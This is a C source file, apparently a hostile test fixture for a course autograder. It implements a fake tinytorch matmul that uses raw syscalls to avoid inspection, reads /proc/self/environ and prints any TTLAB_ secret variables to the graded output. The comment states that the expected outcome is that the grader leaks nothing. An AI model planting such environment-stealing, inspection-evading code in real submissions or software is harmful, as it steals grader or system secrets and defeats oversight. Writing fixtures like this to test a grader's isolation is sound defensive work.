/* read-environ: reads the grader's environment. With raw system calls
 * (inspection sees no getenv()), in the call that multiplies (2, 3) @ (3, 4),
 * reads /proc/self/environ and prints to its output (which the JSON report
 * keeps for the staff) every variable whose name starts with TTLAB_ (where
 * tests/hostile.sh plants a secret in ttgrade's own environment) or LC_ALL,
 * then returns NULL, as does every other call. Expected: no point; the
 * output shows only the grading's fixed environment (LC_ALL=C.UTF-8), and no
 * report holds the secret. x86-64 only. */
#include <fcntl.h>
#include <string.h>
#include <sys/syscall.h>

#include "tinytorch.h"

static long sys3(long nr, long a, long b, long c)
{
    __asm__ volatile("syscall" : "+a"(nr) : "D"(a), "S"(b), "d"(c) : "rcx", "r11", "memory");
    return nr;
}

tt_tensor *tt_matmul(const tt_tensor *a, const tt_tensor *b)
{
    if (a == NULL || b == NULL || a->ndim != 2 || a->shape[0] != 2 || a->shape[1] != 3 || b->shape[1] != 4)
        return NULL;
    static char env[65536];
    long fd = sys3(SYS_open, (long)"/proc/self/environ", O_RDONLY, 0), got = 0, n;
    while (fd >= 0 && got < (long)sizeof env - 1 && (n = sys3(SYS_read, fd, (long)env + got, (long)sizeof env - 1 - got)) > 0)
        got += n;
    for (long i = 0; i < got; i += (long)strlen(env + i) + 1) {
        if (strncmp(env + i, "TTLAB_", 6) != 0 && strncmp(env + i, "LC_ALL=", 7) != 0)
            continue;
        sys3(SYS_write, 1, (long)(env + i), (long)strlen(env + i));
        sys3(SYS_write, 1, (long)"\n", 1);
    }
    return NULL;
}
